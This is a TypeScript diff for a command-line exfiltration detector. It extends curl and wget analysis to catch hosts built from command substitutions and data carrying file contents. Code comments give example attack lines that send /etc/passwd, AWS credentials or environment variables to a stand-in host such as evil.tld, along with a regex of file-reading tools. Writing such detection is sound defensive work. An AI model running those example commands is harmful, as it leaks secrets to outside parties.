@@ -449,7 +449,8 @@ function assess(candidate: Candidate, event: ExecEvent, context: AncestorContext
     break;
   }
   const targets = targetsOf(name, utility, parsed);
-  for (const host of new Set(targets.hosts)) {
+  const runtimeHosts = parsed.operands.map(substitutedHost).filter((h): h is string => h !== undefined);
+  for (const host of new Set([...targets.hosts, ...runtimeHosts])) {
     const look = exfiltrationLook(host);
     if (look === undefined) continue;
     const what =
@@ -819,6 +820,48 @@ function targetsOf(name: string, utility: Utility, parsed: ParsedArgs): Targets 
   }
 }
 
+/**
+ * The host part of an operand that holds a command substitution, with the substitution kept whole:
+ * `http://$(cat /etc/passwd | base64).evil.tld/x` -> `$(cat /etc/passwd | base64).evil.tld`.
+ */
+function substitutedHost(operand: string): string | undefined {
+  if (!operand.includes("$(") && !operand.includes("`")) return undefined;
+  const text = operand.length > 4096 ? operand.slice(0, 4096) : operand;
+  const start = /^[a-z][a-z0-9+.-]*:\/\//i.exec(text)?.[0].length ?? 0;
+  let depth = 0;
+  let tick = false;
+  let end = start;
+  for (; end < text.length; end++) {
+    const c = text[end]!;
+    if (c === "$" && text[end + 1] === "(") {
+      depth++;
+      end++;
+    } else if (c === ")" && depth > 0) depth--;
+    else if (c === "`") tick = !tick;
+    else if (depth === 0 && !tick && (c === "/" || c === "?" || c === "#" || c === ":" || c === "@")) break;
+  }
+  return text.slice(start, end);
+}
+
+const DATA_OPTIONS = new Set([
+  "-d",
+  "--data",
+  "--data-ascii",
+  "--data-binary",
+  "--data-raw",
+  "--data-urlencode",
+  "--json",
+  "-F",
+  "--form",
+  "--form-string",
+  "--post-data",
+  "--body-data",
+]);
+
+// A command substitution that reads files or the environment: `$(cat ~/.aws/credentials)`, `$(< f)`.
+const READS_FILES =
+  /(?:\$\(|`)\s*(?:<|(?:cat|tac|head|tail|base64|base32|xxd|od|hexdump|strings|gzip|bzip2|xz|zstd|tar|env|printenv)\b)/;
+
 interface Output {
   path: string;
   /** The path is a directory the tool writes into (the working directory, -P, --output-dir). */
@@ -986,12 +1029,18 @@ function uploads(name: string, parsed: ParsedArgs, segment: CommandSegment | und
       }
       const form = options(parsed, "-F", "--form").find((o) => /=\s*[@<]/.test(o.value ?? ""));
       if (form !== undefined) return `uploads a file (${quote(form.written)})`;
-      return undefined;
+      return commandOutputSent(parsed);
     }
     case "wget":
     case "wget2": {
       const post = option(parsed, "--post-file", "--body-file");
-      return post === undefined ? undefined : `uploads a file (${quote(post.written)})`;
+      if (post !== undefined) return `uploads a file (${quote(post.written)})`;
+      // -e runs a .wgetrc command: `-e post_file=/etc/passwd` is --post-file.
+      const rc = options(parsed, "-e", "--execute").find((o) =>
+        /^\s*(?:post|body)_?file\s*=/i.test(o.value ?? ""),
+      );
+      if (rc !== undefined) return `uploads a file (${quote(rc.written)})`;
+      return commandOutputSent(parsed);
     }
     case "scp":
     case "rsync": {
@@ -1025,6 +1074,21 @@ function uploads(name: string, parsed: ParsedArgs, segment: CommandSegment | und
     if (piped !== undefined) return `sends a file (${quote(piped)} | ${name})`;
   }
   return undefined;
+}
+
+/**
+ * Data or a URL made of a command substitution that reads files or the environment, as exec sessions
+ * show it: `curl -d "$(cat ~/.aws/credentials)" x`, `wget "http://x/?d=$(env | base64)"`.
+ */
+function commandOutputSent(parsed: ParsedArgs): string | undefined {
+  for (const o of parsed.options) {
+    // Headers are left out: `-H "Authorization: Bearer $(cat …/serviceaccount/token)"` is how the
+    // Kubernetes API is called from a pod, and a credential in a header is not data being carried away.
+    if (!DATA_OPTIONS.has(o.name) || o.value === undefined || !READS_FILES.test(o.value)) continue;
+    return `uploads command output (${quote(o.written)})`;
+  }
+  const operand = parsed.operands.find((value) => READS_FILES.test(value));
+  return operand === undefined ? undefined : `sends command output in its URL (${quote(operand)})`;
 }
 
 /** Paths that a command line executes: run as a command, or given to a shell/interpreter or `.`. */
